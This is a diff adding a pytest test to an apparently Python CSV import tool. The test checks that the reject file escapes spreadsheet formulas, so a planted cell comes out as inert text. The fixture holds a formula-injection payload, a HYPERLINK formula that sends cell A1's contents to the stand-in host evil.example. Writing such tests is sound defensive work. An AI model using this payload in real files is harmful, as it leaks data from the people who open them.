@@ -291,3 +291,16 @@ def test_text_that_is_not_utf8_is_reported_by_line(program, write_csv, tmp_path)
     assert [(e.line, e.column) for e in exc.value.errors] == [(3, "row")]
     assert "is not UTF-8 text" in exc.value.errors[0].reason
     assert ServiceAccount.objects.count() == 0
+
+
+def test_reject_file_guards_cells_a_spreadsheet_would_run(program, write_csv):
+    """Staff open the reject file in a spreadsheet: a planted formula comes out as text."""
+    planted = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    path = write_csv([row(1), row(2, customer_name=planted, care="maybe", phone="+1 415 555 0102")])
+    result = load(program, path, skip_invalid=True)
+    with open(result.reject_file, newline="") as fh:
+        rejects = list(csv.DictReader(fh))
+    assert len(rejects) == 1
+    assert rejects[0]["customer_name"] == "'" + planted
+    assert rejects[0]["phone"] == "'+1 415 555 0102"
+    assert rejects[0]["care"] == "maybe" and rejects[0]["reject_line"] == "3"
